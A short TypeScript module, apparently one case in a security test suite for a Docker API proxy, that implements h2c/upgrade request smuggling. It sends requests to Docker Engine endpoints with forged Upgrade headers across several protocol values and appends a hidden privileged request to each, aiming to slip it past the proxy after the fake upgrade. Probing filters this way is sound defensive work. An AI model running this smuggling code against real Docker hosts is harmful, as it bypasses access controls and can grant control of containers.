import { type Attempt, each, privileged, request, v } from './book';

export const attempt: Attempt = {
  title: 'ask for an upgrade where there is none, and speak on',
  source: 'CVE class of h2c smuggling: after the upgrade nobody reads along',
  async try(world) {
    const hidden = privileged(world);
    return each(
      ['h2c', 'tcp', 'websocket', 'h2c, tcp', 'TLS/1.0', 'docker'].flatMap((protocol) => [`GET ${v}/containers/json`, 'GET /_ping',
        `POST ${v}/containers/create`, `GET ${v}/events`, `POST ${v}/containers/${world.own.container.id}/wait`].map((line) => ({ protocol,
        line }))),
      ({ protocol, line }) => world.send(Buffer.concat([request(`${line} HTTP/1.1`, [`Host: ${world.address}`,
        'Connection: Upgrade, HTTP2-Settings', `Upgrade: ${protocol}`, 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
        'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', 'Sec-WebSocket-Version: 13', 'Content-Length: 0']), hidden])),
    );
  },
};
